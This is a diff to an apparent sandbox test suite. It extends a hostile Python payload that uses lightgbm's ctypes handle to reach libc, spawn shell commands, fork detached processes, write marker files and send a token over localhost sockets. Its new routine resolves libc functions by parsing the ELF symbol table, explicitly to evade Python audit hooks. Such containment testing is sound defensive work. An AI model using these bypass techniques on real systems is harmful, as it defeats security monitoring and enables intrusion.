@@ -125,12 +125,30 @@ ATTACKS["ctypes"] = """\
 import lightgbm
 
 
-def attack():
-    try:
-        ctypes = lightgbm.basic.ctypes
-        libc = ctypes.CDLL(None, use_errno=True)
-    except Exception:
-        return
+def through_a_loaded_library():
+    \"\"\"lib_lightgbm is already loaded (no new dlopen): its handle resolves libc's socket calls.\"\"\"
+    lib = lightgbm.basic._LIB
+    unix = (1).to_bytes(2, "little") + "$unix_path".encode() + bytes(1)
+    abstract = (1).to_bytes(2, "little") + bytes(1) + "$abstract".encode()
+    tcp = (2).to_bytes(2, "little") + ($port).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
+    for family, address in ((1, unix), (1, abstract), (2, tcp)):
+        try:
+            s = lib.socket(family, 1, 0)
+            if s >= 0 and lib.connect(s, address, len(address)) == 0:
+                lib.send(s, TOKEN.encode(), len(TOKEN), 0)
+        except Exception:
+            pass
+    for d in TARGETS:
+        try:
+            fd = lib.open(marker(d, "-lib-open").encode(), 0o1 | 0o100, 0o666)
+            if fd >= 0:
+                lib.write(fd, b"x", 1)
+        except Exception:
+            pass
+
+
+def through_libc():
+    libc = lightgbm.basic.ctypes.CDLL(None, use_errno=True)
     for d in TARGETS:
         try:
             libc.system(("touch " + marker(d, "-libc-system") + "; (sleep 120 &)").encode())
@@ -144,13 +162,6 @@ def attack():
         except Exception:
             pass
     try:
-        s = libc.socket(2, 1, 0)
-        address = (2).to_bytes(2, "little") + ($port).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
-        if s >= 0 and libc.connect(s, address, 16) == 0:
-            libc.send(s, TOKEN.encode(), len(TOKEN), 0)
-    except Exception:
-        pass
-    try:
         pid = libc.fork()
         if pid == 0:
             libc.setsid()
@@ -158,6 +169,69 @@ def attack():
             libc._exit(0)
     except Exception:
         pass
+
+
+LIBC_FILES = (
+    "/usr/lib/x86_64-linux-gnu/libc.so.6",
+    "/lib/x86_64-linux-gnu/libc.so.6",
+    "/usr/lib/aarch64-linux-gnu/libc.so.6",
+    "/lib64/libc.so.6",
+)
+
+
+def libc_symbols(names):
+    \"\"\"Addresses of libc functions without naming them to dlsym: one harmless symbol (getpid) through a loaded
+    library's handle gives libc's base; libc's own ELF symbol table gives the offsets of the others.\"\"\"
+    ctypes = lightgbm.basic.ctypes
+    getpid = ctypes.cast(lightgbm.basic._LIB.getpid, ctypes.c_void_p).value
+    elf = b""
+    for path in LIBC_FILES:
+        try:
+            with open(path, "rb") as f:
+                elf = f.read()
+            break
+        except Exception:
+            continue
+
+    def number(at, size):
+        return int.from_bytes(elf[at : at + size], "little")
+
+    sections = [number(0x28, 8) + i * number(0x3A, 2) for i in range(number(0x3C, 2))]
+    dynsym = next(h for h in sections if number(h + 4, 4) == 11)
+    strings = number(sections[number(dynsym + 0x28, 4)] + 0x18, 8)
+    values = {}
+    start, size = number(dynsym + 0x18, 8), number(dynsym + 0x20, 8)
+    for entry in range(start, start + size, 24):
+        name_at = strings + number(entry, 4)
+        name = elf[name_at : elf.index(b"\\0", name_at)].decode()
+        if (name in names or name == "getpid") and number(entry + 8, 8):
+            values[name] = number(entry + 8, 8)
+    base = getpid - values["getpid"]
+    return {name: base + value for name, value in values.items()}
+
+
+def past_the_audit_hook():
+    \"\"\"Call socket/connect/send by address: the Python audit hook never sees a symbol name.\"\"\"
+    ctypes = lightgbm.basic.ctypes
+    at = libc_symbols({"socket", "connect", "send"})
+    c_int, c_char_p = ctypes.c_int, ctypes.c_char_p
+    socket_ = ctypes.CFUNCTYPE(c_int, c_int, c_int, c_int)(at["socket"])
+    connect = ctypes.CFUNCTYPE(c_int, c_int, c_char_p, c_int)(at["connect"])
+    send = ctypes.CFUNCTYPE(c_int, c_int, c_char_p, c_int, c_int)(at["send"])
+    unix = (1).to_bytes(2, "little") + "$unix_path".encode() + bytes(1)
+    tcp = (2).to_bytes(2, "little") + ($port).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
+    for family, address in ((1, unix), (2, tcp)):
+        s = socket_(family, 1, 0)
+        if s >= 0 and connect(s, address, len(address)) == 0:
+            send(s, ("kagent-hostile-" + TOKEN + "-by-address").encode(), 40, 0)
+
+
+def attack():
+    for attempt in (past_the_audit_hook, through_a_loaded_library, through_libc):
+        try:
+            attempt()
+        except Exception:
+            pass
 
 
 attack()
